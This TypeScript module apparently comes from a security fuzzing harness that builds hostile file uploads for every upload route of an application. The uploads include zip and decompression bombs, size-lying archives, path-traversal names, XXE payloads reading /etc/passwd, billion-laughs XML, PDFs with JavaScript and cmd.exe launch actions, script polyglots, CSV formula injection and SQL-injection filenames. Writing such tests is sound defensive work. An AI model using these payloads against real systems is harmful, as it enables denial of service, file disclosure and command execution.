// Hostile files, to every door that takes one: bombs, lies about sizes, things that are two things, names that lead elsewhere.
import zlib from 'node:zlib'
import { mark } from './attacks-judge.ts'
import { concrete, type FilledForm, laughs, megabyte, once, part } from './attacks-parts.ts'
import type { Attack, Kind } from './attacks-send.ts'
import type { ServedRoute } from './inside.ts'

const json = 'application/json'

/** A ZIP of these entries; `said`: the size that its directory names, where that is a lie. */
function zipOf(entries: { name: string; bytes: Buffer; said?: number }[]): Buffer {
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const { name, bytes, said = bytes.length } of entries) {
    const path = Buffer.from(name)
    const packed = zlib.deflateRawSync(bytes)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(0x800, 2)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(zlib.crc32(bytes), 10)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(said, 18)
    facts.writeUInt16LE(path.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, path, packed])
    const entry = Buffer.alloc(14)
    entry.writeUInt32LE(offset, 10)
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), facts, entry, path]))
    locals.push(local)
    offset += local.length
  }
  const middle = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(entries.length & 0xffff, 8)
  end.writeUInt16LE(entries.length & 0xffff, 10)
  end.writeUInt32LE(middle.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, middle, end])
}

const text = (words: string) => Buffer.from(words)
const zeros = once(() => Buffer.alloc(200 * megabyte))
const spreadsheet = (
  sheet: Buffer,
  workbook = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="a" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>',
) =>
  zipOf([
    {
      name: '[Content_Types].xml',
      bytes: text(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      ),
    },
    {
      name: '_rels/.rels',
      bytes: text(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
      ),
    },
    { name: 'xl/workbook.xml', bytes: text(workbook) },
    {
      name: 'xl/_rels/workbook.xml.rels',
      bytes: text(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
    },
    { name: 'xl/worksheets/sheet1.xml', bytes: sheet },
  ])
const xxe = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
const sheetOf = (cells: string) =>
  text(
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${cells}</sheetData></worksheet>`,
  )
const documentOf = (body: Buffer) =>
  zipOf([
    {
      name: '[Content_Types].xml',
      bytes: text('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    },
    { name: 'word/document.xml', bytes: body },
  ])
const stream = (bytes: Buffer) =>
  Buffer.concat([
    text(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 9 9]>>endobj 4 0 obj<</Filter/FlateDecode/Length ${bytes.length}>>stream\n`,
    ),
    bytes,
    text('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ])

/** Each is made once: some take a second. */
const files: { ending: string; bytes: () => Buffer }[] = [
  { ending: 'zip', bytes: once(() => zipOf([{ name: 'zeros.pdf', bytes: zeros() }])) },
  { ending: 'zip', bytes: once(() => zipOf([{ name: 'zeros.pdf', bytes: Buffer.alloc(5 * megabyte), said: 10 }])) },
  {
    ending: 'zip',
    bytes: once(() =>
      zipOf(
        ['../../../../tmp/praca-fora.pdf', '/etc/praca-fora.pdf', 'C:\\fora.pdf', 'a\0.pdf', `<${mark}>.pdf`].map(
          (name) => ({ name, bytes: text('%PDF-1.7\n%%EOF\n') }),
        ),
      ),
    ),
  },
  {
    ending: 'zip',
    bytes: once(() => zipOf(Array.from({ length: 30_000 }, (_, at) => ({ name: `${at}.pdf`, bytes: text('x') })))),
  },
  {
    ending: 'zip',
    bytes: once(() =>
      zipOf([
        {
          name: 'a.zip',
          bytes: zipOf([{ name: 'b.zip', bytes: zipOf([{ name: 'c', bytes: Buffer.alloc(50 * megabyte) }]) }]),
        },
      ]),
    ),
  },
  { ending: 'xlsx', bytes: once(() => spreadsheet(zeros())) },
  {
    ending: 'xlsx',
    bytes: once(() =>
      spreadsheet(sheetOf('<row r="1"><c r="A1" t="inlineStr"><is><t>Servidor</t></is></c></row>'.repeat(300_000))),
    ),
  },
  {
    ending: 'xlsx',
    bytes: once(() => spreadsheet(sheetOf('<row r="1048577"><c r="ZZZZZ9999999"><v>1e999</v></c></row>'))),
  },
  {
    ending: 'xlsx',
    bytes: once(() =>
      spreadsheet(
        text(`${xxe}<worksheet><sheetData><row><c t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>`),
      ),
    ),
  },
  { ending: 'xlsx', bytes: once(() => spreadsheet(sheetOf(''), `${xxe}<workbook>&a;</workbook>`)) },
  { ending: 'xlsx', bytes: once(() => spreadsheet(text(laughs))) },
  {
    ending: 'ods',
    bytes: once(() =>
      zipOf([
        { name: 'mimetype', bytes: text('application/vnd.oasis.opendocument.spreadsheet') },
        {
          name: 'content.xml',
          bytes: text(
            '<office:document-content xmlns:office="o" xmlns:table="t"><table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table></office:document-content>',
          ),
        },
      ]),
    ),
  },
  { ending: 'docx', bytes: once(() => documentOf(zeros())) },
  { ending: 'docx', bytes: once(() => documentOf(text(`${xxe}<w:document xmlns:w="w"><w:t>&a;</w:t></w:document>`))) },
  { ending: 'docx', bytes: once(() => documentOf(text(`<w:document xmlns:w="w">${'<w:p>'.repeat(100_000)}`))) },
  { ending: 'pdf', bytes: once(() => stream(zlib.deflateSync(zeros()))) },
  { ending: 'pdf', bytes: once(() => stream(zlib.deflateSync(text(`BT ${'[('.repeat(200_000)} Tj ET`)))) },
  {
    ending: 'pdf',
    bytes: once(() =>
      text(
        `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\n${'['.repeat(500_000)}\ntrailer<</Root 1 0 R/Prev 9>>\n%%EOF\n`,
      ),
    ),
  },
  {
    ending: 'pdf',
    bytes: once(() =>
      text(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      ),
    ),
  },
  { ending: 'pdf', bytes: once(() => text('%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF\n')) },
  { ending: 'gif', bytes: once(() => text('GIF89a/*\0\0*/=1;alert(1)//<script>alert(1)</script>')) },
  {
    ending: 'svg',
    bytes: once(() =>
      text(
        `${xxe}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><text>&a;</text></svg>`,
      ),
    ),
  },
  { ending: 'png', bytes: once(hugePicture) },
  {
    ending: 'jpg',
    bytes: once(() =>
      Buffer.concat([
        Buffer.from('ffd8ffe000104a46494600010100000100010000ffc0001108ffffffff03012200021101031101', 'hex'),
        Buffer.alloc(5000, 0xff),
      ]),
    ),
  },
  {
    ending: 'heic',
    bytes: once(() =>
      Buffer.concat([Buffer.from('0000001866747970686569630000000068656963', 'hex'), Buffer.alloc(3000, 0x41)]),
    ),
  },
  { ending: 'csv', bytes: once(() => text(`Servidor;Cargo;Código;Ano;Mês;Salário\n${'"'.repeat(999_999)}`)) },
  { ending: 'csv', bytes: once(() => text(`${'a;'.repeat(200_000)}\n1;2\n`)) },
  {
    ending: 'csv',
    bytes: once(() =>
      text(`Servidor;Cargo;Código;Ano;Mês;Salário\n=cmd|'/C calc'!A0;<${mark}>;1;99999;13;1e999\n\0;\ud800;;-1;NaN;\n`),
    ),
  },
  {
    ending: 'csv',
    bytes: once(() =>
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Servidor;Cargo\na;b\n', 'utf16le').subarray(0, 31)]),
    ),
  },
  { ending: 'json', bytes: once(() => text('['.repeat(300_000))) },
  {
    ending: 'eml',
    bytes: once(() =>
      text(
        `Content-Type: multipart/mixed; boundary=a\r\n\r\n${'--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n'.repeat(20_000)}`,
      ),
    ),
  },
  { ending: 'html', bytes: once(() => text(`<${mark}><script>alert(1)</script>`)) },
  { ending: 'txt', bytes: once(() => Buffer.alloc(0)) },
  { ending: 'exe', bytes: once(() => text('MZ\x90\0')) },
]

/** 65,000 times 65,000 points, packed into a few bytes. */
function hugePicture(): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([text(name), data])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    sum.writeUInt32BE(zlib.crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const header = Buffer.from('0000fde80000fde80802000000', 'hex')
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', zlib.deflateSync(Buffer.alloc(megabyte))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const names = [
  '../../../etc/passwd',
  '..\\..\\a',
  'a%00.',
  '.htaccess',
  'CON',
  `${'x'.repeat(300)}`,
  `<${mark}>`,
  `" ${mark}="1`,
  'a";filename="b.exe',
  '\u202efdp.exe',
  '💥',
  '',
  ' ',
  '/',
  'a\nb',
  "'; drop table arquivo; --",
]
const fileFields = [
  'arquivo',
  'doc_arquivo_1',
  'files0',
  'slc_anexo',
  'logo',
  'imagem',
  'foto',
  'anexo',
  'mdi_arquivo',
  'doc_arquivo_2',
]

export function fileKind(routes: ServedRoute[], filled: FilledForm): Kind {
  const doors = routes.filter(({ takesFiles }) => takesFiles)
  return (random, at): Attack => {
    const { method, url } = doors[at % doors.length] as ServedRoute
    const { ending, bytes } = random.pick(files)
    const fields = Object.entries(filled(random, url)).map(([name, value]) =>
      part(name.replaceAll('"', '%22'), String(value)),
    )
    const name = random.chance(0.6) ? `a.${ending}` : `${random.pick(names)}.${random.chance(0.7) ? ending : 'pdf'}`
    const field = random.chance(0.5) ? random.pick(fileFields) : (fileFields[0] ?? '')
    const type = random.pick(['application/pdf', 'image/png', 'text/html', 'application/octet-stream', 'x'])
    const head = `--x\r\nContent-Disposition: form-data; name="${field}"; filename="${name.replaceAll('\n', '')}"\r\nContent-Type: ${type}\r\n\r\n`
    return {
      ...{
        kind: 'files',
        method: [method].flat().find((verb) => verb !== 'GET') ?? 'POST',
        url: concrete(random, url),
      },
      headers: { 'content-type': 'multipart/form-data; boundary=x', accept: json },
      body: Buffer.concat([text(fields.join('') + head), bytes(), text('\r\n--x--\r\n')]),
    }
  }
}
